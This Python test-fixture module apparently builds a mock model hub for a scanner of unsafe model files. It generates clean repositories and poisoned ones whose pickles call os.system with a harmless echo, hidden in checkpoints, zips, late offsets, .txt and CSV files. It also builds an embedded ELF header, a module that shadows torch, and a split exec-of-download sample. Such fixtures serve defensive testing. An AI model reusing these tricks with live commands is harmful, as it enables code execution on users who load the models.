"""What the sample hub holds: honest models, inert poisoned ones, datasets.

Everything is put together from bytes here; no payload does more than print the marker.
"""
from __future__ import annotations

import io
import json
import random
import struct
import zipfile

from fixtures import MARKER

from .store import Store

COMMAND = f"echo {MARKER}"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def call(module: str, name: str, argument: str) -> bytes:
    """Opcodes that call module.name(argument), of protocol 2."""
    return f"c{module}\n{name}\n(X".encode() + struct.pack("<I", len(argument)) + argument.encode() + b"tR"


def pickle_of(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def honest_items(count: int, seed: int = 7) -> bytes:
    """Opcodes of a list of `count` numbers and words."""
    chooser = random.Random(seed)
    body = b"]("
    for index in range(count):
        body += text(f"token-{index}") if index % 2 else b"J" + struct.pack("<i", chooser.randrange(1 << 30))
    return body + b"e"


def large_pickle(megabytes: int, tail: bytes = b"") -> bytes:
    """A list of byte strings, then `tail` opcodes whose result replaces it."""
    chooser = random.Random(11)
    body = b"](" + b"".join(b"B" + struct.pack("<I", 1 << 20) + chooser.randbytes(1 << 20) for _ in range(megabytes)) + b"e"
    return pickle_of(body + (b"0" + tail if tail else b""))


def state_dict(shapes: dict[str, list[int]], poison: bytes = b"") -> bytes:
    """data.pkl of a torch checkpoint: float tensors by name, each in its own storage. Protocol 2."""
    def word(value: str) -> bytes:
        return b"X" + struct.pack("<I", len(value)) + value.encode()
    body = b"ccollections\nOrderedDict\n)R("
    for key, (name, shape) in enumerate(shapes.items()):
        count = 1
        for side in shape:
            count *= side
        strides, step = [], 1
        for side in reversed(shape):
            strides.insert(0, step)
            step *= side
        body += word(name) + b"ctorch._utils\n_rebuild_tensor_v2\n("
        body += b"(" + word("storage") + b"ctorch\nFloatStorage\n" + word(str(key)) + word("cpu")
        body += b"J" + struct.pack("<i", count) + b"tQK\x00"
        body += b"(" + b"".join(b"J" + struct.pack("<i", side) for side in shape) + b"t"
        body += b"(" + b"".join(b"J" + struct.pack("<i", side) for side in strides) + b"t"
        body += b"\x89ccollections\nOrderedDict\n)RtR"
    body += b"u"
    if poison:
        body += poison + b"0"
    return b"\x80\x02" + body + b"."


def torch_zip(shapes: dict[str, list[int]], poison: bytes = b"", seed: int = 3) -> bytes:
    chooser = random.Random(seed)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        def add(name: str, data: bytes) -> None:
            archive.writestr(zipfile.ZipInfo(f"archive/{name}", (1980, 1, 1, 0, 0, 0)), data)
        add("data.pkl", state_dict(shapes, poison))
        add("byteorder", b"little")
        for key, shape in enumerate(shapes.values()):
            count = 1
            for side in shape:
                count *= side
            add(f"data/{key}", b"".join(struct.pack("<f", chooser.gauss(0, 1)) for _ in range(count)))
        add("version", b"3\n")
    return out.getvalue()


def safetensors(tensors: dict[str, int], seed: int = 5) -> bytes:
    """F32 tensors by name and number of elements."""
    chooser = random.Random(seed)
    header, at = {}, 0
    for name, count in tensors.items():
        header[name] = {"dtype": "F32", "shape": [count], "data_offsets": [at, at + 4 * count]}
        at += 4 * count
    raw = json.dumps({"__metadata__": {"format": "pt"}, **header}).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + chooser.randbytes(at)


def with_program(weights: bytes, at: int) -> bytes:
    """The header of an ELF library, without a program, over the weights at `at` bytes of the data."""
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8) + struct.pack(
        "<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    header += struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 120, 120, 4096)
    begin = 8 + struct.unpack("<Q", weights[:8])[0] + at
    return weights[:begin] + header + weights[begin + len(header):]


def gguf() -> bytes:
    """Version 3, one F32 tensor of 32 elements."""
    def string(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, 2)
    out += string("general.architecture") + struct.pack("<I", 8) + string("llama")
    out += string("general.alignment") + struct.pack("<II", 4, 32)
    out += string("token_embd.weight") + struct.pack("<IQIQ", 1, 32, 0, 0)
    return out + b"\0" * (-len(out) % 32) + random.Random(9).randbytes(128)


def npy() -> bytes:
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (64,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + random.Random(13).randbytes(256)


CONFIG = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8, "num_hidden_layers": 1,
          "num_attention_heads": 2, "intermediate_size": 16, "vocab_size": 6}
TOKENIZER = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": None,
             "pre_tokenizer": {"type": "Whitespace"}, "post_processor": None, "decoder": None,
             "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "[PAD]": 1, "the": 2, "gate": 3, "stands": 4, "still": 5},
                       "unk_token": "[UNK]"}}
TOKENIZER_CONFIG = {"tokenizer_class": "PreTrainedTokenizerFast", "unk_token": "[UNK]", "pad_token": "[PAD]"}
SHAPES = {"embeddings.weight": [6, 8], "encoder.weight": [8, 8], "encoder.bias": [8]}


def card(title: str) -> bytes:
    return f"---\nlicense: mit\n---\n# {title}\n\nA sample of the hub stand-in.\n".encode()


def as_json(value) -> bytes:
    return json.dumps(value, indent=2).encode() + b"\n"


def models() -> dict[str, dict[str, bytes]]:
    """Repository name -> path -> bytes. Every clean file is honest; each poisoned name says its trick."""
    system = call("os", "system", COMMAND)
    return {
        "demo/clean": {
            "README.md": card("Clean"), "config.json": as_json(CONFIG), "tokenizer.json": as_json(TOKENIZER),
            "tokenizer_config.json": as_json(TOKENIZER_CONFIG), "model.safetensors": safetensors({"a": 4096, "b": 1024}),
            "pytorch_model.bin": torch_zip(SHAPES), "vocabulary.pkl": pickle_of(honest_items(200)),
            "sub/folder/weights.npy": npy(), "sub/model.gguf": gguf(), "sub/notes.txt": b"Nothing to see.\n",
        },
        "demo/large": {
            "README.md": card("Large"), "model.safetensors": safetensors({"w": 6 << 20}), "honest.pkl": large_pickle(12),
        },
        "demo/hidden-program": {"README.md": card("A program in the second tensor"), "model.safetensors": with_program(
            safetensors({"a": 1 << 20, "b": 1 << 20}), 4 << 20)},
        "demo/many": {"README.md": card("Many"), **{f"part/{n:03}.txt": f"file {n}\n".encode() for n in range(45)}},
        "demo/unknown-class": {
            "README.md": card("Somebody's private class"),
            "model.pkl": pickle_of(b"cacme_models.layers\nPrivateLayer\n)\x81}" + text("size") + b"K\x08sb"),
        },
        "demo/poisoned-pickle": {"README.md": card("Poisoned pickle"), "config.json": as_json(CONFIG), "model.pkl": pickle_of(system)},
        "demo/poisoned-torch": {"README.md": card("Poisoned checkpoint"), "config.json": as_json(CONFIG),
                                "pytorch_model.bin": torch_zip(SHAPES, poison=system)},
        "demo/poisoned-late": {"README.md": card("Poison behind 12 MiB"),
                               "model.pkl": large_pickle(12, tail=system)},
        "demo/poisoned-archive": {"README.md": card("Poison inside a zip"), "bundle.zip": zip_of({"inner/model.pkl": pickle_of(system)})},
        "demo/shadowed": {"README.md": card("A module in place of torch"), "config.json": as_json(CONFIG),
                          "torch.py": f'print("{MARKER}")\n'.encode(), "train.py": b"import torch\n\nprint(torch.__version__)\n",
                          "model.safetensors": safetensors({"a": 64})},
        "demo/remote-code": {"README.md": card("Code of somebody else"), "model.safetensors": safetensors({"a": 64}),
                             "config.json": as_json(CONFIG | {"auto_map": {"AutoModel": "somebody/else--modeling_x.XModel"}})},
        "demo/own-code": {"README.md": card("Code of its own"), "model.safetensors": safetensors({"a": 64}),
                          "config.json": as_json(CONFIG | {"auto_map": {"AutoModel": "demo/own-code--modeling_x.XModel"}}),
                          "modeling_x.py": b"import torch\n\n\nclass XModel(torch.nn.Module):\n    pass\n"},
        "demo/split-code": {"README.md": card("A download here and its call there"), "mine.py": b"from .data import fetch\n\nexec(fetch())\n",
                            "data.py": b"import requests\n\n\ndef fetch():\n    return requests.get('http://127.0.0.1:9/x').text\n",
                            "model.safetensors": safetensors({"a": 64})},
        "demo/poisoned-text-name": {"README.md": card("A pickle called txt"), "notes.txt": pickle_of(system)},
    }


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def datasets() -> dict[str, dict[str, bytes]]:
    rows = "".join(f"{n},word {n},{n % 2}\n" for n in range(100))
    return {
        "demo/clean-data": {"README.md": card("Data"), "train.csv": b"id,text,label\n" + rows.encode(),
                            "test.csv": b"id,text,label\n1,one,1\n"},
        "demo/poisoned-data": {"README.md": card("Poisoned data"), "train.csv": b"id,text,label\n" + rows.encode(),
                               "test.csv": pickle_of(call("os", "system", COMMAND))},
    }


def fill(store: Store) -> None:
    """Creates the sample repositories, a renamed, a private and a gated one."""
    for kind, repositories in (("models", models()), ("datasets", datasets())):
        for name, files in repositories.items():
            store.commit(store.create(kind, name), files)
    store.create("models", "demo/old-name", renamed_to="demo/clean")
    store.commit(store.create("models", "demo/private", private=True), {"README.md": card("Private")})
    store.commit(store.create("models", "demo/gated", gated=["alice"]),
                 {"README.md": card("Gated"), "model.safetensors": safetensors({"a": 16})})
